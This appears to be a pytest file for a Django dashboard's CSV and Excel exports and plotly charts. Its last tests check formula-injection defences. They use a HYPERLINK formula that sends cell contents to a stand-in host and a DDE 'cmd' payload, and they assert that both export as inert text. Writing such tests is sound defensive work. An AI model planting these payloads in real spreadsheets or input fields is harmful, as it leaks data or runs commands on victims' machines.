"""Every dashboard table downloads as CSV and as Excel, with the rows and numbers the page shows, and the
charts draw with the plotly.js served from our own static files."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from plotly import graph_objects

from analytics.dashboards.exports import neutralised
from analytics.dashboards.rollups import rollups_refresh
from tests.analytics.dashboards.conftest import History
from tests.analytics.dashboards.pages import number, read
from tests.conftest import City, Personas
from workorders.models import WorkOrder

pytestmark = pytest.mark.django_db

TABLES = ("volume", "channels", "categories", "districts", "departments", "rates", "deadlines", "overdue",
          "overdue_orders", "due_soon_orders", "returns", "ai")  # fmt: skip


@pytest.fixture
def manager(client: Client, personas: Personas, dashboard_history: History) -> Client:
    rollups_refresh(days=None, now=dashboard_history.now)
    client.force_login(personas.manager)
    return client


def download(client: Client, link: str) -> object:
    response = client.get(link.replace("&amp;", "&"))
    assert response.status_code == 200, link
    return response


def page_rows(table: object) -> list[list[str]]:
    rows = [[cell.text for cell in row] for row in table.rows]
    if table.footer:
        rows.append([cell.text for cell in table.footer])
    return rows


def as_page_text(value: object, header: str) -> str:
    """An exported value written the way the page writes it, to compare the two."""
    if value in (None, ""):
        return ""
    if header.endswith("(%)"):
        text = f"{float(value):+.1f}%" if str(value).startswith(("+", "-")) else f"{float(value):.1f}%"
        return text
    if header.endswith("(pp)"):
        return f"{float(value):+.1f}"
    if isinstance(value, int) or (isinstance(value, str) and value.isdigit()):
        return f"{int(value):,}"
    return str(value)


def comparable(rows: list[list[str]]) -> list[list[str]]:
    return [["" if text == "—" else text for text in row] for row in rows]


def test_every_table_offers_both_downloads(manager: Client) -> None:
    page = read(manager.get(reverse("dashboard")))

    assert set(page.tables) == set(TABLES)
    for key in TABLES:
        for fmt in ("csv", "xlsx"):
            link = reverse("dashboard-export", args=[key, fmt])
            assert any(href.startswith(link) for href in page.links), (key, fmt)


def test_the_csv_download_holds_the_rows_of_the_page(manager: Client) -> None:
    page = read(manager.get(reverse("dashboard")))

    for key in ("rates", "channels", "volume", "returns", "ai", "overdue_orders"):
        link = reverse("dashboard-export", args=[key, "csv"])
        response = download(manager, next(href for href in page.links if href.startswith(link)))
        assert response["Content-Type"].startswith("text/csv")
        assert response["Content-Disposition"].startswith("attachment; filename=")
        header, *rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        exported = [[as_page_text(value, header[i]) for i, value in enumerate(row)] for row in rows]
        assert exported == comparable(page_rows(page.tables[key])), key


def test_the_excel_download_holds_the_same_numbers(manager: Client, city: City, settings: object) -> None:
    settings.DASHBOARDS = {**settings.DASHBOARDS, "LEAGUE_MIN_CALLBACKS": 1}  # every department ranked
    page = read(manager.get(reverse("dashboard")))
    link = reverse("dashboard-export", args=["rates", "xlsx"])

    response = download(manager, next(href for href in page.links if href.startswith(link)))
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    header = rows[2]
    by_department = {row[1]: dict(zip(header, row, strict=True)) for row in rows[3:]}
    shown = page.tables["rates"].row(city.environment.name)
    exported = by_department[city.environment.name]
    response_rate = next(name for name in header if str(name).endswith("(%)"))
    assert exported[response_rate] == pytest.approx(1 / 3)  # a number formatted as a percentage
    assert len(rows) - 3 == len(page.tables["rates"].rows) + 1  # and the totals row
    numbers = [v for v in exported.values() if isinstance(v, int)]
    assert numbers[:4] == [number(shown[c].text) for c in ("rank", "dispatched", "sign_due", "signed_on_time")]


def test_a_department_download_holds_the_department_only(
    client: Client, personas: Personas, city: City, dashboard_history: History
) -> None:
    rollups_refresh(days=None, now=dashboard_history.now)
    client.force_login(personas.officer_a)
    link = reverse("dashboard-department-export", args=[city.housing.pk, "volume", "csv"])

    header, *rows = list(csv.reader(io.StringIO(download(client, link).content.decode("utf-8-sig"))))
    assert header[1] != "Submissions" and len(header) >= 2
    # The default period, the last 30 days, in housing's scope: the street-light, automatic and old orders.
    assert sum(int(row[1]) for row in rows[:-1]) == int(rows[-1][1]) == 3


def test_the_charts_are_valid_plotly_figures_with_a_link_on_every_point(manager: Client, settings: object) -> None:
    settings.DASHBOARDS = {**settings.DASHBOARDS, "LEAGUE_MIN_CALLBACKS": 1}  # a bar for every department
    content = manager.get(reverse("dashboard")).content.decode()
    figures = json.loads(content.split('id="dashboard-figures" type="application/json">', 1)[1].split("</script>")[0])

    figures.pop("_empty")  # the message for an empty chart
    assert {"volume", "volume_split", "channels", "league", "rates_trend", "returns", "ai"} <= set(figures)
    for name, figure in figures.items():
        graph_objects.Figure(data=figure["data"], layout=figure["layout"])  # raises on anything plotly rejects
        if figure["layout"]["xaxis"].get("type") == "date":  # dates as numbers, never English month names
            formats = [stop["value"] for stop in figure["layout"]["xaxis"]["tickformatstops"]]
            assert formats and not any("%b" in f or "%B" in f for f in formats), name
        for trace in figure["data"]:
            values = trace["x"] if trace.get("orientation") == "h" else trace["y"]
            links = [link for link, value in zip(trace["customdata"], values, strict=True) if value]
            assert links and all(link.startswith("/") for link in links), name


def test_plotly_is_served_from_our_own_static_files(manager: Client) -> None:
    page = read(manager.get(reverse("dashboard")))

    plotly = next(src for src in page.scripts if "plotly" in src)
    assert plotly.startswith("/static/") and "//" not in plotly.removeprefix("/")
    assert all(src.startswith("/static/") for src in page.scripts)
    response = manager.get(plotly)
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert b"plotly.js" in body[:2000] and len(body) > 1_000_000
    script = manager.get(next(src for src in page.scripts if src.endswith("dashboard.js")))
    assert script.status_code == 200


FORMULA_TITLE = '=HYPERLINK("http://x"&A1,"y")'


@pytest.fixture
def formula_order(dispatched_order: WorkOrder) -> WorkOrder:
    """An overdue order whose title is a spreadsheet formula (typed by a caller or an operator)."""
    WorkOrder.objects.filter(pk=dispatched_order.pk).update(
        title=FORMULA_TITLE, resolve_due_at=timezone.now() - timedelta(days=2)
    )
    return dispatched_order


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_starting_like_a_formula_is_text_and_signed_numbers_stay_numbers(start: str) -> None:
    assert neutralised(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
    assert neutralised("+1.5") == "+1.5" and neutralised("-12") == "-12" and neutralised("-3.0%") == "-3.0%"
    assert neutralised("路灯不亮") == "路灯不亮" and neutralised(7) == 7


def test_a_title_written_as_a_formula_is_exported_as_text_in_csv_and_excel(
    client: Client, personas: Personas, formula_order: WorkOrder
) -> None:
    client.force_login(personas.manager)

    csv_rows = list(
        csv.reader(
            io.StringIO(
                download(client, reverse("dashboard-export", args=["overdue_orders", "csv"])).content.decode(
                    "utf-8-sig"
                )
            )
        )
    )
    row = next(row for row in csv_rows if row[0] == formula_order.number)
    assert row[1] == "'" + FORMULA_TITLE  # a spreadsheet shows the text and runs nothing

    content = download(client, reverse("dashboard-export", args=["overdue_orders", "xlsx"])).content
    sheet = load_workbook(io.BytesIO(content)).active
    cell = next(r[1] for r in sheet.iter_rows(min_row=4) if r[0].value == formula_order.number)
    assert cell.value == FORMULA_TITLE and cell.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "</f>" not in xml  # no formula element anywhere: the title is a text cell
    assert '<is><t>=HYPERLINK("http://x"&amp;A1,"y")</t></is>' in xml
